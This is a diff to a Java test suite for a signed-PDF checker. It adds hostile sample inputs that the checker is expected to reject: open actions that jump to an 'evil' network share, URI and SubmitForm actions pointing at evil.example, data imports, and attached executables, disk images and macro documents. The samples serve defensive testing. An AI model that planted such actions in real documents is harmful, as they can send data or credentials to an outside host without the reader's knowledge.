@@ -52,6 +52,10 @@ class HostileFilesTest {
                 change("hidden object behind the signature", HostileFiles::hiddenObject, "đối tượng ẩn"),
                 change("signed bytes changed", HostileFiles::digitChanged, "mã băm không khớp"),
                 change("signature wrapping", HostileFiles::wrapped, "Trong khoảng không được ký"),
+                change(
+                        "padding behind the signature's value",
+                        HostileFiles::paddingFilled,
+                        "Trong khoảng không được ký"),
                 change("byte range replaced", HostileFiles::rangeReplaced, "giữa một phiên bản"),
                 change(
                         "contents removed",
@@ -83,6 +87,58 @@ class HostileFilesTest {
                 change("XFA", HostileFiles::dynamicForm, "XFA"),
                 change("program by name", () -> HostileFiles.program("a.exe", "x"), "chương trình chạy được"),
                 change("program by content", () -> HostileFiles.program("a.txt", "MZ\u0090"), "chương trình chạy được"),
+                change(
+                        "page of another machine on opening",
+                        () -> HostileFiles.opening("<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"),
+                        "máy khác"),
+                change(
+                        "page of another file on opening",
+                        () -> HostileFiles.opening("<</S/GoToR/F(x.pdf)/D[0/Fit]>>"),
+                        "tự mở"),
+                change(
+                        "page of an attached file on opening",
+                        () -> HostileFiles.opening("<</S/GoToE/T<</R/C/N(x)>>>>"),
+                        "tự mở"),
+                change(
+                        "address on opening",
+                        () -> HostileFiles.opening("<</S/URI/URI(http://evil.example/x)>>"),
+                        "tự mở"),
+                change(
+                        "address behind another action",
+                        () -> HostileFiles.turning("<</S/URI/URI(http://evil.example/x)>>"),
+                        "tự mở"),
+                change(
+                        "form sent on opening",
+                        () -> HostileFiles.opening("<</S/SubmitForm/F<</FS/URL/F(http://evil.example/x)>>>>"),
+                        "gửi dữ liệu"),
+                change(
+                        "data fetched on opening",
+                        () -> HostileFiles.opening("<</S/ImportData/F(x.fdf)>>"),
+                        "nạp dữ liệu"),
+                change(
+                        "link to another machine",
+                        () -> HostileFiles.linking("<</S/GoToR/F<</UF(/evil/share/x.pdf)>>/D[0/Fit]>>"),
+                        "máy khác"),
+                change(
+                        "address of another machine",
+                        () -> HostileFiles.linking("<</S/URI/URI(file://evil/share/x.pdf)>>"),
+                        "máy khác"),
+                change("content in another file", HostileFiles::contentElsewhere, "lấy từ tệp khác"),
+                change("program in an attached archive", HostileFiles::packedProgram, "đính kèm tệp nén"),
+                change("attached disk by name", () -> HostileFiles.program("a.iso. ", "x"), "ảnh đĩa"),
+                change(
+                        "attached disk by content",
+                        () -> HostileFiles.program("a.dat", "\0".repeat(0x8001) + "CD001"),
+                        "ảnh đĩa"),
+                change(
+                        "macros in an attached document",
+                        () -> HostileFiles.program(
+                                "a.docx",
+                                OfficeFiles.word()
+                                        .with("word/vbaProject.bin", "x")
+                                        .text()),
+                        "macro"),
+                change("web page in a comment", HostileFiles::markup, "trang web"),
                 change("encrypted", () -> HostileFiles.encrypted("secret"), "mật khẩu"),
                 change("bomb in a page", () -> HostileFiles.bomb(100), "bung ra quá lớn"),
                 change("bomb beyond any picture", () -> HostileFiles.bomb(600), "bung ra quá lớn"),
